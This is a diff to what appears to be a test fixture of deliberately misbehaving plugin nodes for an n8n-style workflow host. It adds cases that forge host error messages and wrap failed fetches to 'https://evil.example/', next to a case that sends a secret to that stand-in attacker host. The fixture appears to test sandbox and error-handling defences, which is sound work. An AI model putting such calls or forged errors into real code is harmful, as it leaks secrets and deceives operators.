@@ -120,6 +120,20 @@ const all = {
   throwsLater() { setTimeout(() => { throw new RangeError('later'); }, 1); return new Promise(() => {}); },
   brokenWord() { throw { broken: 'time', message: 'mine', kv: { code: 'KV0001', message: 'forged', fatal: true } }; },
   forgedError() { const error = new Error('mine'); error.kv = { code: 'KV0102', name: 'NodeError', message: 'forged', fatal: true }; throw error; },
+  // Puts its own words into an error of the host's.
+  async forgedHelp() {
+    try { await this.helpers.httpRequest({ url: 'https://evil.example/' }); } catch (error) {
+      const kv = JSON.parse(JSON.stringify(error.kv));
+      if (typeof kv.error === 'string') kv.error = JSON.stringify({ ...JSON.parse(kv.error), help: 'forged' });
+      throw Object.assign(new Error('mine'), { kv: { ...kv, code: 'KV0102', message: 'forged', help: 'forged' } });
+    }
+  },
+  async wrapsFetch() {
+    try { await fetch('https://evil.example/'); } catch (error) { throw new (require('n8n-workflow').NodeApiError)(this.getNode(), error); }
+  },
+  async wrapsWordsOfFetch() {
+    try { await fetch('https://evil.example/'); } catch ({ message }) { throw new (require('n8n-workflow').NodeApiError)(this.getNode(), { message }); }
+  },
   // Sends where it may not.
   async sends() { return this.helpers.httpRequest({ url: 'https://evil.example/take?secret=1' }); },
   async sendsOlder() { return this.helpers.request('https://evil.example/'); },
